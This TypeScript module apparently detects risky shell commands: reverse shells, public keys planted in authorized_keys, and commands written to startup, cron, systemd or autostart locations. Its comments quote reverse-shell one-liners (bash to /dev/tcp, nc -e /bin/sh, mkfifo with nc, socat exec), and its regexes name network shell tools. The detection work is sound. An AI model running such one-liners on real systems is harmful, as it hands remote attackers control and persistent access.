// What gives a remote party commands on the machine that runs a trail's fix, without a download to
// pipe into a shell: a reverse shell (PayloadsAllTheThings, "Reverse Shell Cheatsheet": `bash -i >&
// /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, the mkfifo form `cat /tmp/f | sh -i 2>&1 | nc
// HOST PORT > /tmp/f`, socat `exec:'bash -li'` … `tcp:HOST:PORT`, python's socket + dup2 + /bin/sh,
// PowerShell's TCPClient + iex), a public key given in the trail appended to authorized_keys (its
// owner logs in), and commands written where they run later (a shell startup file, a crontab line).
// Rows of risk-rules.ts use these (`remote_script_execution`). Pure: no I/O.
// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
// trails are re-checked with the new rules at the next start.
import { inlineCode, isInterpreterName, readsProgramFromStdin, SHELLS, type View } from "./risk-view.ts";
import type { SimpleCommand } from "./shell.ts";

const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;
/** Where the risk visit keeps the descriptors an `exec` opened onto sockets, among a script's variables (not a variable name). */
export const SOCKET_FDS = "\u0000socketfds";
const SOCKET_CLIENT = /^(nc|ncat|netcat|telnet|socat|openssl)$/;
/** The command a reverse shell would hand over: a shell, or cmd/powershell. */
const SHELL_PATH = /(^|[/\\])(ba|z|da|k|c|tc|a|fi|mk)?sh(\.exe)?$|(^|[/\\])(cmd|powershell|pwsh)(\.exe)?$/i;

/** The file descriptors a bare `exec` opens onto a network socket (`exec 196<>/dev/tcp/h/p`: 196). */
export function socketDescriptors(v: View): string[] {
  if (v.name !== "exec" || v.args.length > 0) return [];
  return v.cmd.redirects.filter((r) => NETWORK_DEVICE.test(r.target)).map((r) => /^\d+/.exec(r.op)?.[0] ?? "0");
}

/**
 * How this one command opens a shell a remote host controls, or null. `socketFds`: descriptors an
 * earlier `exec` of the script opened onto a socket (`exec 196<>/dev/tcp/h/p; sh <&196 >&196`).
 */
export function reverseShell(v: View, socketFds: readonly string[] = []): { level: "high" | "medium"; detail: string } | null {
  // a bare `exec 5<>/dev/tcp/h/p` only opens a socket as a descriptor: what uses it decides (an HTTP request by hand uses it too)
  if (socketDescriptors(v).length > 0)
    return {
      level: "medium",
      detail: "exec opens a network socket as a descriptor of this shell: check what reads from it and what it runs",
    };
  // bash -i >& /dev/tcp/h/p 0>&1, sh -i < /dev/tcp/h/p, exec /bin/sh 0</dev/tcp/h/p, sh <&196 after exec 196<>/dev/tcp/…
  // (`>& /dev/tcp/…` parses as the redirect `>&` and a word: the socket is then an argument)
  const socket = !SHELLS.has(v.name)
    ? undefined
    : ([...v.cmd.redirects.map((r) => r.target), ...v.a].find((t) => NETWORK_DEVICE.test(t)) ??
      v.cmd.redirects.map((r) => /^&(\d+)$/.exec(r.target)?.[1]).find((fd) => fd !== undefined && socketFds.includes(fd)));
  if (socket)
    return {
      level: "high",
      detail: `${v.name} connects its input or output to a network socket (${/^\d+$/.test(socket) ? `descriptor ${socket}` : socket}): a reverse shell a remote host controls`,
    };
  const hit = remoteShellProgram(v);
  return hit ? { level: "high", detail: hit } : null;
}

function remoteShellProgram(v: View): string | null {
  if (!/^(nc|ncat|netcat|socat)$/.test(v.name) && !isInterpreterName(v.name)) return null;
  // nc -e /bin/sh h p, ncat --sh-exec / --exec, nc -c sh
  if (/^(nc|ncat|netcat)$/.test(v.name)) {
    const k = v.a.findIndex((x) => /^(-e|-c|--exec|--sh-exec|--lua-exec)$/.test(x) || /^-[a-z]*e$/.test(x));
    const program = k >= 0 ? (v.a[k + 1] ?? "") : "";
    if (k >= 0 && (SHELL_PATH.test(program) || /^-c$|--sh-exec/.test(v.a[k]!)))
      return `${v.name} runs ${program || "a shell"} for whoever is at the other end of the connection (a reverse or bind shell)`;
  }
  // socat exec:'bash -li',pty tcp:h:p (either order)
  if (v.name === "socat") {
    const exec = v.a.find((x) => /^(exec|system):/i.test(x));
    const net = v.a.find((x) => /^(tcp|tcp4|tcp6|tcp-connect|tcp-listen|udp|openssl|openssl-connect|ssl):/i.test(x));
    if (exec && net) return `socat joins ${exec.split(",")[0]} to ${net.split(",")[0]}: a shell a remote host controls`;
  }
  // python -c 'import socket,…;os.dup2(s.fileno(),0);…;subprocess.call(["/bin/sh","-i"])', perl -e 'use Socket;…exec("/bin/sh -i")'
  const code = isInterpreterName(v.name) ? (inlineCode(v) ?? powershellCode(v)) : null;
  if (code !== null && CODE_CONNECTS.test(code) && CODE_RUNS_SHELL.test(code))
    return `${v.name} runs inline code that connects to a remote host and gives it a shell (a reverse shell)`;
  return null;
}
const CODE_CONNECTS =
  /socket\.socket|socket\.tcp\(|:connect\(|\.connect\(\s*\(|create_connection|IO::Socket|use\s+Socket|TCPSocket|fsockopen|socket_create|net\.connect|net\.Socket|new\s+Socket|Net\.Sockets\.TCPClient|Socket\.new/i;
const CODE_RUNS_SHELL =
  /\bdup2\b|pty\.spawn|["'`/]bin\/(ba|z)?sh\b|["']\s*(ba)?sh\s+-i|\bcmd(\.exe)?["']|child_process[\s\S]{0,200}?\b(sh|bash|cmd)\b|\biex\b|invoke-expression/i;
/** `powershell -c "…"`'s text, read as code (its TCPClient + iex one-liner). */
const powershellCode = (v: View) => {
  if (v.name !== "powershell" && v.name !== "pwsh") return null;
  const k = v.a.findIndex((x) => /^-(c|command)$/i.test(x));
  return k >= 0 ? v.a.slice(k + 1).join(" ") : null;
};

/** How a pipeline hands a shell to a socket client (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`, `nc h p | sh`), or null. */
export function reverseShellPipeline(views: readonly (View | null)[]): string | null {
  const shell = views.findIndex((v) => v !== null && SHELLS.has(v.name) && readsProgramFromStdin(v));
  const client = views.findIndex((v) => v !== null && SOCKET_CLIENT.test(v.name) && (v.name !== "openssl" || v.a.includes("s_client")));
  if (shell < 0 || client < 0) return null;
  return `pipes ${views[client]!.name}'s connection into ${views[shell]!.name}${client > shell ? " and back" : ""}: a shell a remote host controls`;
}

const PUBLIC_KEY = /\b(ssh-(rsa|ed25519|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)\s+AAAA[0-9A-Za-z+/]{8,}/;

/** A public key given in the command, written into authorized_keys (its holder can log in), or null. */
export function plantedKey(v: View, targets: readonly string[]): string | null {
  if (!targets.some((t) => AUTHORIZED_KEYS.test(t))) return null;
  const k = v.a.findIndex((x) => PUBLIC_KEY.test(x));
  return k < 0 ? null : keyAdded(v.a.slice(k).join(" "), "given in the trail");
}
export const AUTHORIZED_KEYS = /(^|\/)authorized_keys2?$/;

/** What adding the public key in this text to authorized_keys does, or null when it holds none; `how`: where the key comes from. */
export function keyAdded(text: string, how: string): string | null {
  const key = PUBLIC_KEY.exec(text);
  if (!key) return null;
  const comment = text.slice(key.index + key[0].length).match(/^[0-9A-Za-z+/=]*\s+(\S+)/)?.[1];
  return `adds the public key ${key[1]}${comment ? ` (${comment.slice(0, 40)})` : ""} ${how} to authorized_keys: its holder can log in to this machine`;
}

/** Shell startup files and their like: what is written there runs at every new shell. */
const STARTUP_FILE =
  /(^|\/)\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|cshrc|tcshrc|kshrc|config\/fish\/config\.fish)$|^\/etc\/(profile|bash\.bashrc|zsh\/zshrc|profile\.d\/[^/]+)$|^\$profile$/i;

/**
 * Where a file runs later without anyone running it by name, described; null for anywhere else: a
 * shell startup file, a crontab or /etc/cron*, a systemd or init script, a desktop autostart entry,
 * a launchd agent, and authorized_keys (a key there logs in). A download written there is its code
 * run, or its key let in, unseen (round 12).
 */
export function runsLaterAt(target: string): string | null {
  const t = target.replace(/^["']|["']$/g, "");
  if (STARTUP_FILE.test(t)) return "a shell startup file: it runs in every new shell";
  if (/^\/etc\/cron|^\/var\/spool\/cron|^\/etc\/crontab$|^\/etc\/anacrontab$/.test(t)) return "a cron location: it runs on a schedule";
  if (/^\/(etc|lib|usr\/lib)\/systemd\/|(^|\/)\.config\/systemd\/|^\/etc\/init\.d\/|^\/etc\/rc\.local$/.test(t))
    return "a service definition: it runs at boot";
  if (/(^|\/)\.config\/autostart\/|^\/etc\/xdg\/autostart\/|\/Library\/Launch(Agents|Daemons)\//.test(t))
    return "an autostart entry: it runs at login";
  if (AUTHORIZED_KEYS.test(t)) return "authorized_keys: whoever holds the keys it lists can log in";
  return null;
}

/**
 * The text an echo or printf writes where it runs later (a shell startup file, a crontab line, a
 * `/etc/cron*` file), with a crontab schedule taken off, or null. `targets`: where its output goes;
 * `pipedInto`: the next stage of its pipeline, or the one its group is piped into.
 */
export function laterRunText(v: View, targets: readonly string[], pipedInto: string | null): string | null {
  if (v.name !== "echo" && v.name !== "printf") return null;
  const cron = pipedInto === "crontab" || targets.some((t) => /^\/etc\/cron|^\/var\/spool\/cron/.test(t));
  if (!cron && !targets.some((t) => STARTUP_FILE.test(t))) return null;
  const text = v.a.filter((x) => !/^-[neE]+$/.test(x)).join(" ");
  // `* * * * * cmd`, `@reboot cmd`, and /etc/crontab's user field
  return cron ? text.replace(/^\s*(@\w+\s+|(\S+\s+){5})(root\s+)?/, "") : text;
}

/** A command of redirections only (`> /etc/passwd`, `>| f`): the shell opens, and so empties, each target; read as `:` with them (round 12). */
export function bareRedirectView(cmd: SimpleCommand): View | null {
  if (cmd.words.length !== 0 || !cmd.redirects.some((r) => />/.test(r.op))) return null;
  return { name: ":", args: [], a: [], sudo: false, env: {}, cmd };
}

/** A bare `exec` with redirections only (`exec 196<>/dev/tcp/h/p`): the view skips exec as a wrapper, so it has none. */
export function bareExecView(cmd: SimpleCommand): View | null {
  if (cmd.words.length !== 1 || cmd.words[0]!.text !== "exec" || cmd.redirects.length === 0) return null;
  return { name: "exec", args: [], a: [], sudo: false, env: {}, cmd };
}
